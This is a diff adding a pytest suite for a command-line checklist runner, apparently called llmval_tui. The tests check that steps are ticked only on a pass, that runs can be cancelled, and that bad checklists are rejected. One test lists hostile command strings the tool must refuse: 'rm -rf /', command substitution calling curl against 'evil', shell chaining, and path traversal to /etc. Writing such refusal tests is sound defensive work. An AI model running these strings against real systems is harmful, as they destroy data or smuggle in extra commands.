@@ -1,0 +1,210 @@
+"""The command line with real processes: what it does, its exit codes, and that a refusal changes no byte."""
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from llmval_tui.cli import COMMANDS, VALUED, parser, with_command
+from llmval_tui.runs.plans import active_plan
+
+
+def until(condition: Callable[[], bool], seconds: float = 60) -> None:
+    deadline = time.monotonic() + seconds
+    while not condition():
+        assert time.monotonic() < deadline, "did not happen in time"
+        time.sleep(0.05)
+
+
+@pytest.mark.parametrize(
+    ("typed", "command"),
+    [
+        ([], "open"),
+        (["list.md"], "open"),
+        (["--theme", "status"], "open"),
+        (["--workspace", "run", "list.md", "--readonly"], "open"),
+        (["--workspace", "x", "status"], "status"),
+        (["status", "--workspace", "x"], "status"),
+        (["run", "1.2"], "run"),
+    ],
+)
+def test_which_command(typed: list[str], command: str) -> None:
+    assert parser().parse_args(with_command(typed, COMMANDS, VALUED)).command == command
+
+
+def test_a_pass_ticks_one_byte_and_is_recorded(workspace) -> None:
+    before = workspace.checklist.read_bytes()
+    done = workspace.llmval("run", "1.1", check=0)
+    after = workspace.checklist.read_bytes()
+    changed = [(a, b) for a, b in zip(before, after, strict=True) if a != b]
+    assert changed == [(ord(" "), ord("x"))]
+    todo = (workspace.folder / "docs/TODO.md").read_text()
+    assert "artifacts/ok.json" in todo
+    assert "ticked" in done.stdout
+    ledger = [json.loads(line) for line in workspace.store.ledger.read_text().splitlines()]
+    assert [entry["path"] for entry in ledger[-1]["evidence"]] == ["artifacts/ok.json"]
+    assert ledger[-1]["evidence"][0]["sha256"][:12] in todo
+
+    workspace.llmval("verify", check=0)
+    (workspace.folder / "artifacts/ok.json").write_text('{"value": 2}')
+    stale = workspace.llmval("verify", "--json", check=1)
+    assert json.loads(stale.stdout)["files"][0]["state"] == "changed"
+
+
+def test_a_failure_ticks_nothing(workspace) -> None:
+    before = workspace.checklist.read_bytes()
+    done = workspace.llmval("run", "1.2", check=1)
+    assert workspace.checklist.read_bytes() == before
+    assert not (workspace.folder / "docs/TODO.md").exists()
+    assert "exit" in done.stdout
+    assert "boom" in (workspace.store.runs()[0].logs_folder / "main.stderr.log").read_text()
+
+
+def test_no_tick_judges_only(workspace) -> None:
+    before = workspace.checklist.read_bytes()
+    workspace.llmval("run", "1.1", "--no-tick", check=0)
+    assert workspace.checklist.read_bytes() == before
+    status = json.loads(workspace.llmval("status", "--json", check=0).stdout)
+    assert status["steps"][0]["state"] == "passed"
+    assert workspace.checklist.read_bytes() == before  # looking does not tick what was asked only to be judged
+
+
+def test_all_goes_on_after_a_failure_and_a_refusal(workspace) -> None:
+    (workspace.folder / "go").touch()
+    done = workspace.llmval("run", "--all", "--json", check=1)
+    results = {item["number"]: item["outcome"] for item in json.loads(done.stdout)["results"]}
+    assert results == {"1.1": "pass", "1.2": "fail", "1.3": "pass", "1.4": "refused"}
+    assert workspace.checklist.read_text().count("[x]") == 2
+
+
+def test_a_second_plan_is_refused_and_a_cancel_ends_the_first(workspace) -> None:
+    first = workspace.start("run", "1.3")
+    until((workspace.folder / "started").exists)
+    second = workspace.llmval("run", "1.1", check=2)
+    assert "is at work" in second.stderr
+    workspace.llmval("cancel", check=0)
+    output, _ = first.communicate(timeout=60)
+    assert first.returncode == 130, output
+    assert "[x]" not in workspace.checklist.read_text()
+    assert workspace.store.active() == []
+
+
+def test_ctrl_c_stops_the_run(workspace) -> None:
+    watching = workspace.start("run", "1.3")
+    until((workspace.folder / "started").exists)
+    watching.send_signal(signal.SIGINT)
+    output, _ = watching.communicate(timeout=60)
+    assert watching.returncode == 130, output
+    assert workspace.store.active() == []
+
+
+def test_killed_plan_and_watcher_leave_the_run_and_it_is_judged_and_ticked(workspace) -> None:
+    watching = workspace.start("run", "1.3")
+    until((workspace.folder / "started").exists)
+    plan = active_plan(workspace.folder)
+    assert plan is not None
+    watching.kill()
+    watching.wait()
+    os.kill(plan.status().identity.pid, signal.SIGKILL)
+    until(lambda: active_plan(workspace.folder) is None)
+    assert len(workspace.store.active()) == 1
+    (workspace.folder / "go").touch()
+    until(lambda: workspace.store.active() == [])
+    status = json.loads(workspace.llmval("status", "--json", check=0).stdout)
+    assert status["steps"][2]["state"] == "done"
+    assert workspace.checklist.read_text().count("[x]") == 1
+    assert "artifacts/slow.txt" in (workspace.folder / "docs/TODO.md").read_text()
+
+
+def test_new_plan_waits_for_the_run_that_is_in_flight(workspace) -> None:
+    workspace.llmval("run", "1.3", "--detach", check=0)
+    until((workspace.folder / "started").exists)
+    os.kill(active_plan(workspace.folder).status().identity.pid, signal.SIGKILL)
+    until(lambda: active_plan(workspace.folder) is None)
+    again = workspace.start("run", "1.3")
+    until(lambda: (plan := active_plan(workspace.folder)) is not None and plan.status().run_id is not None)
+    (workspace.folder / "go").touch()
+    output, _ = again.communicate(timeout=60)
+    assert again.returncode == 0, output
+    assert len(workspace.store.runs()) == 1
+
+
+def test_readonly_looks_and_leaves(workspace) -> None:
+    refused = workspace.llmval("run", "1.1", "--readonly", check=2)
+    assert "--readonly" in refused.stderr
+    workspace.llmval("status", "--readonly", check=0)
+    assert not (workspace.folder / "artifacts/runs").exists()
+
+
+def test_tick_by_hand_needs_a_note_and_is_recorded_as_such(workspace) -> None:
+    before = workspace.checklist.read_bytes()
+    assert "note" in workspace.llmval("tick", "1.4", "--note", "  ", check=2).stderr
+    assert workspace.checklist.read_bytes() == before
+    workspace.llmval("tick", "1.4", "--note", "asked Ada, all labelled", check=0)
+    assert workspace.checklist.read_text().count("[x]") == 1
+    todo = (workspace.folder / "docs/TODO.md").read_text()
+    assert "operator" in todo
+    assert "asked Ada" in todo
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python ok.py; rm -rf /",
+        "python ok.py `id`",
+        "python ok.py $(curl evil)",
+        "python ok.py *.json",
+        "python ok.py && true",
+        "python ../../outside.py",
+        "python ok.py --output-json ../../outside.json",
+        "python ok.py --output-json /etc/outside.json",
+        "python ok.py 'unbalanced",
+        "python missing.py",
+    ],
+)
+def test_refused_commands_change_no_byte(workspace, command: str) -> None:
+    text = f"## 1. Only\n- [ ] Run: ``{command}``\n"
+    workspace.checklist.write_text(text)
+    done = workspace.llmval("run", "1.1", check=2)
+    assert len((done.stdout + done.stderr).strip()) > 20
+    assert workspace.checklist.read_text() == text
+    assert workspace.store.runs() == []
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (None, "does not exist"),
+        (b"# No tasks\n", "no task items"),
+        (b"- [ ] bad \xff byte\n", "line 1"),
+    ],
+)
+def test_bad_checklists(workspace, content: bytes | None, said: str) -> None:
+    path = workspace.folder / "list.md"
+    if content is not None:
+        path.write_bytes(content)
+    for command in (["run", "--all"], ["status"]):
+        done = workspace.llmval(*command, "--checklist", "list.md", check=2)
+        assert said in done.stderr
+        assert done.stderr.count("\n") == 1
+    if content is not None:
+        assert path.read_bytes() == content
+
+
+def test_dashboard_without_a_terminal_says_what_to_use(workspace) -> None:
+    assert "needs a terminal" in workspace.llmval(check=2).stderr
+
+
+def test_start_up_imports_nothing_heavy(workspace) -> None:
+    program = (
+        "import sys; from llmval_tui import cli; cli.parser();"
+        "print([m for m in ('textual', 'rich', 'torch', 'psutil', 'markdown_it') if m in sys.modules])"
+    )
+    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True, cwd=Path("/"))
+    assert done.stdout.strip() == "[]"
